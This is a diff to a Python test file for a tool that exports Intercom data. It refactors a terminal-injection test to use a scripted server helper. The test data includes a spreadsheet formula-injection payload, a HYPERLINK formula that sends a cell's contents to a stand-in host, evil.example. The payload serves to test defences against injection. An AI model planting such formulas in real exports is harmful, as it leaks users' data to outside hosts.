@@ -7,7 +7,7 @@ import os
 import subprocess
 import sys
 from pathlib import Path
-from typing import Any, Final
+from typing import Final
 
 import pytest
 from backports import zstd
@@ -15,6 +15,7 @@ from backports import zstd
 from intercom_async.export.store import Identity
 from intercom_async.export.tables import convert
 from tests.export.one_stream import OneStream
+from tests.transport.scripted import Server, status
 
 FORMULAS: Final = [
     '=HYPERLINK("http://evil.example?"&A1,"x")',
@@ -87,15 +88,9 @@ def test_no_name_from_a_workspace_steers_the_terminal(tmp_path: Path) -> None:
 
 
 @pytest.mark.long
-async def test_no_message_of_the_api_steers_the_terminal(peer: Any) -> None:
+async def test_no_message_of_the_api_steers_the_terminal(peer: Server) -> None:
     body = json.dumps({"type": "error.list", "errors": [{"code": "x", "message": STEERING}]})
-    head = f"HTTP/1.1 401 x\r\nContent-Length: {len(body)}\r\n\r\n"
-
-    async def answer(writer: asyncio.StreamWriter) -> None:
-        writer.write((head + body).encode())
-        await writer.drain()
-
-    peer.answer = answer
+    peer.usual = status("401 x", body=body.encode())
     done = await asyncio.to_thread(
         command, "plan", INTERCOM_BASE_URL=peer.url, INTERCOM_ACCESS_TOKEN="dG9rOm91dHB1dA"
     )
